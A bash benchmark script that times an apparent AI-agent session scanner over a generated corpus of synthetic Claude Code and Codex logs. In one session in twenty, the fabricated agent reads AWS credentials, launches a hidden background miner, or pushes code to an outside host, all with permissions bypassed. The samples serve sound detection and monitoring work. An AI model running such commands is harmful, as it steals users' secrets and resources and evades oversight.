#!/usr/bin/env bash
# Scan speed and memory, against a read-speed floor.
#
# Generates a corpus of realistic Claude Code sessions and Codex rollouts
# (the shapes of the pinned clients' own files: attachments and system
# prompts, thinking, tool calls with their outputs, token records; one
# session in twenty misbehaves), then times
#
#   scan:   perimeter scan CORPUS --format json --out /dev/null  (all detectors)
#   floor:  rg -c . CORPUS  (reads every byte and counts lines)
#
# and prints MB/s, sessions/s and peak RSS for each, with the scan's rate
# per core. Usage: bench/scan-speed.sh [GB] [THREADS]   (default 1 GB, all cores)
set -euo pipefail
GB=${1:-1}
THREADS=${2:-$(nproc)}
root=$(cd "$(dirname "$0")/.." && pwd)
work=$(mktemp -d "${TMPDIR:-/tmp}/perimeter-scan-bench.XXXXXX")
[ -n "${KEEP:-}" ] || trap 'rm -rf "$work"' EXIT

cargo build --release --quiet --manifest-path "$root/Cargo.toml"
bin="$root/target/release/perimeter"

/usr/bin/python3 - "$work/corpus" "$GB" <<'PY'
import json, os, random, sys
out, gb = sys.argv[1], float(sys.argv[2])
random.seed(7)
os.makedirs(out + "/claude", exist_ok=True)
os.makedirs(out + "/codex", exist_ok=True)
words = ("the loader tokenizer batch checkpoint gradient eval metric config sweep shard cache "
         "reduce scatter optimizer schedule warmup dataset split buffer stream worker queue").split()
def prose(n):
    return " ".join(random.choice(words) for _ in range(n))
def output(n):
    return "\n".join(f"{random.choice(words)}_{i}.py:{random.randint(1,900)}: {prose(8)}" for i in range(n))
commands = ["ls -la", "git status", "python3 -m pytest tests/ -q", "grep -rn TODO src/", "cat src/loader.py",
            "git diff", "sed -i 's/batch_size=32/batch_size=64/' configs/train.yaml", "rm -rf build/", "make lint"]
bad = ["cat ~/.aws/credentials", "nohup python3 mine.py >/dev/null 2>&1 &", "git push https://example.org/x.git main"]
system = prose(3000)
target = gb * 1e9
written, n = 0, 0
while written < target:
    n += 1
    sid = f"{n:08x}-0000-4000-8000-{random.getrandbits(48):012x}"
    misbehaves = n % 20 == 0
    steps = random.randint(10, 60)
    if n % 2:
        path = f"{out}/claude/{sid}.jsonl"
        with open(path, "w") as f:
            w = lambda o: f.write(json.dumps(o, separators=(",", ":")) + "\n")
            common = {"sessionId": sid, "version": "2.1.332", "cwd": "/home/dev/lab", "permissionMode": "bypassPermissions", "isSidechain": False}
            w({"type": "queue-operation", "operation": "enqueue", "sessionId": sid, "content": "Fix the flaky loader test."})
            w({**common, "type": "user", "uuid": "u0", "parentUuid": None, "message": {"role": "user", "content": "Fix the flaky loader test."}})
            w({**common, "type": "attachment", "attachment": {"type": "prompt_snapshot", "systemPrompt": [system]}})
            for i in range(steps):
                cmd = random.choice(bad) if misbehaves and i == steps // 2 else random.choice(commands)
                w({**common, "type": "assistant", "uuid": f"a{i}", "message": {"role": "assistant", "model": "claude-opus-5-5", "content": [{"type": "thinking", "thinking": prose(40), "signature": "x" * 200}]}})
                w({**common, "type": "assistant", "uuid": f"b{i}", "message": {"role": "assistant", "model": "claude-opus-5-5", "content": [{"type": "tool_use", "id": f"toolu_{i}", "name": "Bash", "input": {"command": cmd, "description": prose(6)}}]}})
                w({**common, "type": "user", "uuid": f"r{i}", "message": {"role": "user", "content": [{"type": "tool_result", "tool_use_id": f"toolu_{i}", "content": output(random.randint(5, 120)), "is_error": False}]}})
            w({**common, "type": "assistant", "uuid": "z", "message": {"role": "assistant", "model": "claude-opus-5-5", "content": [{"type": "text", "text": "Done: " + prose(30)}]}})
    else:
        path = f"{out}/codex/rollout-2026-11-28T00-00-00-{sid}.jsonl"
        with open(path, "w") as f:
            w = lambda t, p: f.write(json.dumps({"timestamp": "2026-11-28T00:00:00.000Z", "type": t, "payload": p}, separators=(",", ":")) + "\n")
            w("session_meta", {"id": sid, "cwd": "/home/dev/lab", "cli_version": "0.171.0", "base_instructions": {"text": system}})
            w("turn_context", {"model": "gpt-5.5", "approval_policy": "never", "sandbox_policy": {"type": "danger-full-access"}})
            w("response_item", {"type": "message", "role": "user", "content": [{"type": "input_text", "text": "Fix the flaky loader test."}]})
            for i in range(steps):
                cmd = random.choice(bad) if misbehaves and i == steps // 2 else random.choice(commands)
                w("response_item", {"type": "reasoning", "summary": [{"type": "summary_text", "text": prose(40)}]})
                w("response_item", {"type": "function_call", "name": "exec_command", "arguments": json.dumps({"cmd": cmd}), "call_id": f"call_{i}"})
                out_text = "Process exited with code 0\nOutput:\n" + output(random.randint(5, 120))
                w("response_item", {"type": "function_call_output", "call_id": f"call_{i}", "output": out_text})
                w("event_msg", {"type": "token_count", "info": {"total_token_usage": {"input_tokens": 1000 * i}}})
            w("response_item", {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": "Done: " + prose(30)}]})
    written += os.path.getsize(path)
print(f"corpus: {n} sessions, {written / 1e6:.0f} MB", file=sys.stderr)
PY

corpus="$work/corpus"
bytes=$(du -sb "$corpus" | cut -f1)
sessions=$(find "$corpus" -type f | wc -l)
# A first pass warms the page cache, so both measure reading from memory.
rg -c . "$corpus" > /dev/null

measure() { # label, command...
  local label=$1; shift
  local t; t=$( { /usr/bin/time -f '%e %M' "$@" > /dev/null; } 2>&1 | tail -1)
  local secs=${t% *} rss=${t#* }
  awk -v l="$label" -v s="$secs" -v r="$rss" -v b="$bytes" -v n="$sessions" -v c="$THREADS" 'BEGIN {
    printf "%-6s %7.2f s  %7.1f MB/s  %8.0f sessions/s  peak RSS %6.1f MB", l, s, b / 1e6 / s, n / s, r / 1024
    if (l == "scan") printf "  (%.1f MB/s per core over %d threads)", b / 1e6 / s / c, c
    printf "\n" }'
}
echo "corpus: $sessions sessions, $((bytes / 1000000)) MB; $THREADS threads"
measure floor rg -c . -j "$THREADS" "$corpus"
measure scan "$bin" scan "$corpus" --format json --out /dev/null --threads "$THREADS"
